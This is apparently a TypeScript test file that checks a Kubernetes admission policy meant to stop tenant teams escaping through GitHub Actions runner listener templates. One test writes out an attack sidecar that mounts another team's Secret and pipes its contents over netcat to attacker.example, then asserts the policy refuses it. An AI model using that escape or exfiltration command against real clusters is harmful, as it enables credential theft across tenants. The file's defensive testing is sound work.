import { Environment, evaluate } from "@marcbachmann/cel-js";
import { ValidatingAdmissionPolicy, ValidatingAdmissionPolicyBinding } from "kubernetes-models/admissionregistration.k8s.io/v1";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { scaleSetValues } from "../../components/arc/scale-set-values";
import {
  CONTROLLER_NAMESPACE_FIELDS,
  LISTENER_CONTAINER_FIELDS,
  LISTENER_POD_ALLOWED,
  LISTENER_POD_FIELDS,
  SCALE_SET_ID_ANNOTATION,
  TEAM_LABEL,
  teamGrants,
  teamPolicyManifests,
} from "../../components/arc/team-admission-policy";
import { grants, TEAM_DEPLOYER_RULES } from "../../components/arc/team-rbac";
import { parseStackConfig } from "../../config/load";
import { clusterFacts } from "../../config/cluster-facts";
import { fleetModel } from "../../config/model";
import { arcSchema } from "../../config/schema";
import { sourceFrom, TOKEN } from "../helpers/config";
import { hasUpstream, UPSTREAM } from "../helpers/env";
import { podTemplateValidator } from "../helpers/upstream";

type Obj = { [k: string]: unknown };

const CONTROLLER = { namespace: "arc-systems", serviceAccount: "arc-gha-rs-controller" };
/** The platform stack's teams, as RunnerFleet hands them to the policy: what it granted each. */
const PLATFORM = parseStackConfig(
  sourceFrom(
    {
      github: { url: "https://github.com/acme", auth: "token" },
      cluster: { type: "kind", name: "test" },
      teams: [
        { name: "payments", runnerGroups: [{ name: "payments", repositories: ["payments-api"] }], labels: ["gpu"] },
        { name: "ledger", runnerGroups: [{ name: "ledger", repositories: ["ledger"] }] },
        { name: "payments-eu", credential: "own" },
      ],
    },
    { secrets: TOKEN },
  ),
);
const { policy, binding } = teamPolicyManifests(CONTROLLER, { teams: teamGrants(PLATFORM.teams), githubUrl: PLATFORM.github.url });
const nsOf = (team: string) => ({ metadata: { name: `${team}-runners`, labels: { [TEAM_LABEL]: team, "kubernetes.io/metadata.name": `${team}-runners` } } });
const TEAM_NS = nsOf("payments");

/**
 * Admission as the API server runs a ValidatingAdmissionPolicy (KEP-3488): the binding selects the
 * request by namespace labels, every matchCondition must be true, then every validation must be
 * true; a false validation denies with its message. The expressions are evaluated by a CEL
 * evaluator (@marcbachmann/cel-js), each parsed and type-checked first.
 */
function admit(req: { operation: "CREATE" | "UPDATE"; username: string; object: Obj; oldObject?: Obj; namespace?: Obj }): string[] {
  const ns = (req.namespace ?? TEAM_NS) as { metadata: { labels: Record<string, string> } };
  const selected = binding.spec.matchResources.namespaceSelector.matchExpressions.every((e) => e.key in ns.metadata.labels);
  if (!selected) return [];
  const vars = { object: req.object, oldObject: req.oldObject ?? null, request: { operation: req.operation, userInfo: { username: req.username } }, namespaceObject: ns };
  if (!policy.spec.matchConditions.every((c) => evaluate(c.expression, vars) === true)) return [];
  return policy.spec.validations.filter((v) => evaluate(v.expression, vars) !== true).map((v) => v.message);
}

const TEAM_ID = "system:serviceaccount:payments-runners:runner-fleet-team";

/**
 * A team's set as the team stack renders it, as the chart makes the AutoscalingRunnerSet of it
 * (values.scaleSetLabels become spec.runnerScaleSetLabels, the CRD's field).
 */
function teamScaleSet(o: { team?: string; set?: Obj } = {}): Obj {
  const team = o.team ?? "payments";
  const cfg = {
    team,
    platform: "acme/runner-fleet/prod",
    github: { url: "https://github.com/acme", auth: "token" },
    runnerSets: [{ name: "ci", containerMode: "kubernetes", runnerGroup: team, ...o.set }],
  };
  const platform = clusterFacts({ type: "existing", archs: ["amd64"], storageClass: "gp3" }, arcSchema.parse({}));
  const set = fleetModel(parseStackConfig(sourceFrom(cfg, { secrets: TOKEN })), platform).runnerSets[0]!;
  const v = scaleSetValues(set, set.instances[0]!, { credentialsSecretName: "runner-fleet-github", controllerNamespace: "arc-systems", controllerServiceAccount: "arc-gha-rs-controller" });
  return {
    apiVersion: "actions.github.com/v1alpha1",
    kind: "AutoscalingRunnerSet",
    metadata: { name: v.runnerScaleSetName, namespace: `${team}-runners`, labels: v.labels, annotations: { "actions.github.com/values-hash": "x" } },
    spec: {
      githubConfigUrl: v.githubConfigUrl,
      githubConfigSecret: v.githubConfigSecret,
      runnerScaleSetName: v.runnerScaleSetName,
      ...(v.runnerGroup === undefined ? {} : { runnerGroup: v.runnerGroup }),
      ...(v.scaleSetLabels === undefined ? {} : { runnerScaleSetLabels: v.scaleSetLabels }),
      minRunners: v.minRunners,
      maxRunners: v.maxRunners,
      listenerTemplate: structuredClone(v.listenerTemplate),
      template: v.template,
    },
  };
}

/**
 * The escape, as ARC would build it: mergeListenerPodWithTemplate (controllers/actions.github.com/
 * resourcebuilder.go, gha-runner-scale-set-0.14.2) appends every template container other than
 * "listener" (`pod.Spec.Containers = append(pod.Spec.Containers, *c)`) and the template's volumes
 * (`pod.Spec.Volumes = append(pod.Spec.Volumes, tmpl.Spec.Volumes...)`) to the listener pod, which
 * it creates in the controller's namespace. Transcribed for the fields this manifest uses.
 */
function arcListenerPod(template: { spec: { containers: Obj[]; volumes?: Obj[] } }): { namespace: string; containers: Obj[]; volumes: Obj[] } {
  const pod = { namespace: CONTROLLER.namespace, containers: [{ name: "listener", image: "ghcr.io/actions/gha-runner-scale-set-controller:0.14.2" }] as Obj[], volumes: [] as Obj[] };
  for (const c of template.spec.containers) if (c.name !== "listener") pod.containers.push(c);
  pod.volumes.push(...(template.spec.volumes ?? []));
  return pod;
}

const lt = (o: Obj) => (o.spec as { listenerTemplate: { spec: Obj & { containers: Obj[] }; metadata?: Obj } }).listenerTemplate;

describe("team scale sets: the cluster keeps listener templates out of the controller's namespace", () => {
  it("every expression parses and type-checks under CEL", () => {
    const env = new Environment({ unlistedVariablesAreDyn: true });
    for (const e of [...policy.spec.validations.map((v) => v.expression), ...policy.spec.matchConditions.map((c) => c.expression)]) {
      expect(() => env.check(e), e).not.toThrow();
      expect(env.check(e).valid, e).toBe(true);
    }
  });

  it("admits the scale set the team stack renders, on create and on update", () => {
    const ars = teamScaleSet();
    expect(admit({ operation: "CREATE", username: TEAM_ID, object: ars })).toEqual([]);
    const old = structuredClone(ars);
    (old.metadata as { annotations: Obj }).annotations[SCALE_SET_ID_ANNOTATION] = "17";
    const next = structuredClone(old);
    (next.spec as Obj).maxRunners = 3;
    expect(admit({ operation: "UPDATE", username: TEAM_ID, object: next, oldObject: old })).toEqual([]);
  });

  it("refuses the escape a team would write: a sidecar mounting another listener's Secret", () => {
    const ars = teamScaleSet();
    const t = lt(ars);
    t.spec.containers.push({ name: "exfil", image: "alpine:3", command: ["sh", "-c", "cat /stolen/* | nc attacker.example 443"], volumeMounts: [{ name: "stolen", mountPath: "/stolen" }] });
    t.spec.volumes = [{ name: "stolen", secret: { secretName: "ledger-ci-1-754b578d-listener" } }];
    // What ARC would have run, and where: the sidecar and the other team's Secret, in arc-systems.
    const pod = arcListenerPod(t as { spec: { containers: Obj[]; volumes?: Obj[] } });
    expect(pod.namespace).toBe("arc-systems");
    expect(pod.containers.map((c) => c.name)).toEqual(["listener", "exfil"]);
    expect(pod.volumes).toEqual([{ name: "stolen", secret: { secretName: "ledger-ci-1-754b578d-listener" } }]);
    // What the API server says.
    const denied = admit({ operation: "CREATE", username: TEAM_ID, object: ars });
    expect(denied).toEqual([
      expect.stringMatching(/may not add containers/),
      expect.stringMatching(/listener container may set only its name/), // the rule reads every container: the sidecar sets an image
      expect.stringMatching(/may set only containers and affinity/),
    ]);
    // The same on an update of an admitted set, and from any identity the team could mint in its namespace.
    expect(admit({ operation: "UPDATE", username: "system:serviceaccount:payments-runners:minted", object: ars, oldObject: teamScaleSet() })).toEqual(denied);
    // Only ARC's own controller is not bound (it writes the scale-set id annotation).
    expect(admit({ operation: "UPDATE", username: "system:serviceaccount:arc-systems:arc-gha-rs-controller", object: ars, oldObject: teamScaleSet() })).toEqual([]);
  });

  it.each(LISTENER_POD_FIELDS.map((f) => [f]))("refuses listenerTemplate.spec.%s", (field) => {
    const ars = teamScaleSet();
    lt(ars).spec[field] = field === "hostNetwork" || field === "hostPID" || field === "hostIPC" ? true : field === "nodeName" ? "ip-10-0-0-1" : {};
    expect(admit({ operation: "CREATE", username: TEAM_ID, object: ars })).toEqual([expect.stringMatching(/may set only containers and affinity/)]);
  });

  it.each(LISTENER_CONTAINER_FIELDS.map((f) => [f]))("refuses the listener container's %s", (field) => {
    const ars = teamScaleSet();
    lt(ars).spec.containers[0]![field] = field === "envFrom" ? [{ secretRef: { name: "ledger-runners-github" } }] : "x";
    expect(admit({ operation: "CREATE", username: TEAM_ID, object: ars })).toEqual([expect.stringMatching(/listener container may set only its name/)]);
  });

  it("refuses node selection through affinity and labels or annotations on the listener pod; keeps our own affinity", () => {
    const pin = teamScaleSet();
    lt(pin).spec.affinity = { nodeAffinity: { requiredDuringSchedulingIgnoredDuringExecution: { nodeSelectorTerms: [{ matchExpressions: [{ key: "kubernetes.io/hostname", operator: "In", values: ["node-7"] }] }] } } };
    expect(admit({ operation: "CREATE", username: TEAM_ID, object: pin })).toEqual([expect.stringMatching(/affinity may only keep the listener off privileged nodes/)]);
    const near = teamScaleSet();
    (lt(near).spec.affinity as Obj).podAffinity = { requiredDuringSchedulingIgnoredDuringExecution: [{ topologyKey: "kubernetes.io/hostname", labelSelector: {} }] };
    expect(admit({ operation: "CREATE", username: TEAM_ID, object: near })).toHaveLength(1);
    const meta = teamScaleSet();
    lt(meta).metadata = { annotations: { "container.apparmor.security.beta.kubernetes.io/listener": "unconfined" } };
    expect(admit({ operation: "CREATE", username: TEAM_ID, object: meta })).toEqual([expect.stringMatching(/may not label or annotate/)]);
  });

  it.each(CONTROLLER_NAMESPACE_FIELDS.map((f) => [f]))("refuses spec.%s", (field) => {
    const ars = teamScaleSet();
    (ars.spec as Obj)[field] = field === "listenerServiceAccountMetadata" ? { annotations: { "eks.amazonaws.com/role-arn": "arn:aws:iam::111122223333:role/platform" } } : {};
    expect(admit({ operation: "CREATE", username: TEAM_ID, object: ars })).toEqual([expect.stringMatching(/shape objects in the controller's namespace/)]);
  });

  it("refuses another team's scale set: its id annotation, or a name outside the team's prefix", () => {
    const stolen = teamScaleSet();
    (stolen.metadata as { annotations: Obj }).annotations[SCALE_SET_ID_ANNOTATION] = "42";
    expect(admit({ operation: "CREATE", username: TEAM_ID, object: stolen })).toEqual([expect.stringMatching(/annotation is ARC's/)]);
    const old = teamScaleSet();
    (old.metadata as { annotations: Obj }).annotations[SCALE_SET_ID_ANNOTATION] = "17";
    expect(admit({ operation: "UPDATE", username: TEAM_ID, object: stolen, oldObject: old })).toEqual([expect.stringMatching(/annotation is ARC's/)]);
    const renamed = teamScaleSet();
    (renamed.spec as Obj).runnerScaleSetName = "ledger-ci-1";
    expect(admit({ operation: "CREATE", username: TEAM_ID, object: renamed })).toEqual([expect.stringMatching(/must start with the team's name/)]);
  });

  it("admits what the platform granted: the team's group, its own and the self-hosted labels, a granted label", () => {
    const ars = teamScaleSet({ set: { labels: ["payments-gpu", "gpu"] } });
    expect((ars.spec as Obj).runnerScaleSetLabels).toEqual(["gpu", "payments-gpu", "self-hosted", "linux", "X64"]);
    expect(admit({ operation: "CREATE", username: TEAM_ID, object: ars })).toEqual([]);
    // A team on its own credential: its groups are GitHub's business with that credential.
    const own = teamScaleSet({ team: "payments-eu", set: { runnerGroup: "anything" } });
    expect(admit({ operation: "CREATE", username: "system:serviceaccount:payments-eu-runners:runner-fleet-team", object: own, namespace: nsOf("payments-eu") })).toEqual([]);
  });

  it("refuses a runner group the platform did not make for the team: another team's, or none (the Default group)", () => {
    const other = teamScaleSet();
    (other.spec as Obj).runnerGroup = "ledger";
    expect(admit({ operation: "CREATE", username: TEAM_ID, object: other })).toEqual([expect.stringMatching(/runner groups the platform made for this team/)]);
    const none = teamScaleSet();
    delete (none.spec as Obj).runnerGroup;
    expect(admit({ operation: "UPDATE", username: TEAM_ID, object: none, oldObject: teamScaleSet() })).toEqual([expect.stringMatching(/the Default group/)]);
    // A repository's set has no group at all: on the platform's credential it would take that repository's jobs, granted or not.
    const repo = teamScaleSet();
    delete (repo.spec as Obj).runnerGroup;
    (repo.spec as Obj).githubConfigUrl = "https://github.com/acme/ledger";
    expect(admit({ operation: "CREATE", username: TEAM_ID, object: repo })).toEqual([expect.stringMatching(/runner groups the platform made for this team/)]);
    // The ledger team may use its own group, and not payments'.
    const ledger = teamScaleSet({ team: "ledger" });
    expect(admit({ operation: "CREATE", username: "system:serviceaccount:ledger-runners:runner-fleet-team", object: ledger, namespace: nsOf("ledger") })).toEqual([]);
    (ledger.spec as Obj).runnerGroup = "payments";
    expect(admit({ operation: "CREATE", username: "system:serviceaccount:ledger-runners:runner-fleet-team", object: ledger, namespace: nsOf("ledger") })).toHaveLength(1);
  });

  it.each([
    ["another team's label", "ledger-ci"],
    ["a generic label other runners serve", "gpu-large"],
    ["a label granted to another team only", "ledger"],
  ])("refuses %s in runnerScaleSetLabels", (_what, label) => {
    const ars = teamScaleSet();
    ((ars.spec as Obj).runnerScaleSetLabels as string[]).push(label);
    expect(admit({ operation: "CREATE", username: TEAM_ID, object: ars })).toEqual([expect.stringMatching(/runnerScaleSetLabels may hold only/)]);
  });

  it("a label granted to one team is refused to another", () => {
    const eu = teamScaleSet({ team: "payments-eu", set: { runnerGroup: "x", labels: ["gpu"] } });
    expect(admit({ operation: "CREATE", username: "system:serviceaccount:payments-eu-runners:runner-fleet-team", object: eu, namespace: nsOf("payments-eu") })).toEqual([
      expect.stringMatching(/runnerScaleSetLabels may hold only/),
    ]);
  });

  it("refuses a scale set on the platform's credential outside the platform's GitHub URL", () => {
    for (const url of ["https://github.com/other-org", "https://github.com/acme-evil", "https://ghe.example.test/acme"]) {
      const ars = teamScaleSet();
      (ars.spec as Obj).githubConfigUrl = url;
      expect(admit({ operation: "CREATE", username: TEAM_ID, object: ars }), url).toEqual([expect.stringMatching(/githubConfigUrl must be https:\/\/github.com\/acme or below it/)]);
    }
  });

  it("a team cannot unbind itself: its Role cannot relabel namespaces or touch admission policies, but can mint identities (so the binding is by namespace)", () => {
    for (const v of ["update", "patch", "create", "delete"]) {
      expect(grants(TEAM_DEPLOYER_RULES, "", "namespaces", v)).toBe(false);
      for (const r of ["validatingadmissionpolicies", "validatingadmissionpolicybindings"]) expect(grants(TEAM_DEPLOYER_RULES, "admissionregistration.k8s.io", r, v)).toBe(false);
    }
    expect(grants(TEAM_DEPLOYER_RULES, "", "serviceaccounts", "create") && grants(TEAM_DEPLOYER_RULES, "rbac.authorization.k8s.io", "rolebindings", "create")).toBe(true);
  });

  it("binds only namespaces that carry a team label (teams cannot label namespaces)", () => {
    const ars = teamScaleSet();
    lt(ars).spec.hostNetwork = true;
    expect(admit({ operation: "CREATE", username: "kubernetes-admin", object: ars, namespace: { metadata: { labels: { "kubernetes.io/metadata.name": "arc-runners" } } } })).toEqual([]);
    expect(admit({ operation: "CREATE", username: "kubernetes-admin", object: ars })).toHaveLength(1);
  });

  it("the manifests are valid admissionregistration.k8s.io/v1 objects (Kubernetes' own API schema, via kubernetes-models)", () => {
    expect(() => new ValidatingAdmissionPolicy(policy as never).validate()).not.toThrow();
    expect(() => new ValidatingAdmissionPolicyBinding(binding as never).validate()).not.toThrow();
    // The schema check is live: a wrong enum value is refused.
    expect(() => new ValidatingAdmissionPolicyBinding({ ...binding, spec: { ...binding.spec, validationActions: ["Block"] } } as never).validate()).toThrow();
  });

  it.runIf(hasUpstream())("the forbidden lists cover every field the CRD's listenerTemplate declares (the API server prunes the rest)", () => {
    const crd = parse(readFileSync(join(UPSTREAM, "crds/actions.github.com_autoscalingrunnersets.yaml"), "utf8")) as {
      spec: { versions: { schema: { openAPIV3Schema: { properties: { spec: { properties: Record<string, { properties: Record<string, { properties: Record<string, Obj & { items?: { properties: Obj } }> }> }> } } } } }[] };
    };
    const spec = crd.spec.versions[0]!.schema.openAPIV3Schema.properties.spec.properties;
    const pod = spec.listenerTemplate!.properties.spec!.properties;
    expect(Object.keys(pod).sort()).toEqual([...LISTENER_POD_FIELDS, ...LISTENER_POD_ALLOWED].sort());
    expect(Object.keys(pod.containers!.items!.properties).sort()).toEqual([...LISTENER_CONTAINER_FIELDS, "name"].sort());
    for (const f of CONTROLLER_NAMESPACE_FIELDS) expect(Object.keys(spec)).toContain(f);
    // And the listener template the team stack renders is one the CRD accepts.
    const validate = podTemplateValidator("listenerTemplate");
    expect(validate(lt(teamScaleSet())), JSON.stringify(validate.errors)).toBe(true);
  });
});
